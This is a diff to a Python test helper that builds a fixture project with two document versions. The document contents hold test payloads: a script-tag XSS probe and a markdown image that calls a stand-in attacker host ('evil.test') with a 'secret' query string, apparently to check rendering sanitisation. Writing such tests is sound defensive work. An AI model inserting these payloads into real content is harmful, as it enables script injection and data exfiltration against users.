@@ -71,3 +71,49 @@ def assert_error(response: httpx.Response, status: int, name: str | None = None)
     assert body["detail"]
     if name is not None:
         assert body["error"] == name, body
+
+
+@dataclass
+class World:
+    """One tenant's project with a run and two versions of a document."""
+
+    project_id: str
+    run_id: str
+    document_id: str
+
+
+async def make_world(db: Database, client: httpx.AsyncClient, caller: Caller) -> World:
+    from jeex.documents import service as documents_service
+
+    project = await create_project(client, caller)
+    run = await client.post(
+        f"/api/v1/projects/{project['id']}/step1", json={}, headers=caller.headers
+    )
+    assert run.status_code == 202, run.text
+    run_id = uuid.UUID(run.json()["id"])
+    async with db.tenant_session(caller.tenant_id) as session:
+        first = await documents_service.create_version(
+            session,
+            project_id=uuid.UUID(project["id"]),
+            run_id=run_id,
+            document_type="about",
+            epic_number=0,
+            title="About",
+            content="# About\n\nFirst line.\n\n<script>alert(1)</script>\n",
+            language="en",
+            metadata={"model": "test"},
+            created_by=caller.user_id,
+        )
+        await documents_service.create_version(
+            session,
+            project_id=uuid.UUID(project["id"]),
+            run_id=None,  # type: ignore[arg-type]
+            document_type="about",
+            epic_number=0,
+            title="About",
+            content="# About\n\nSecond line.\n\n![x](http://evil.test/?q=secret)\n",
+            language="en",
+            metadata={"model": "test"},
+            created_by=caller.user_id,
+        )
+    return World(project["id"], str(run_id), str(first.id))
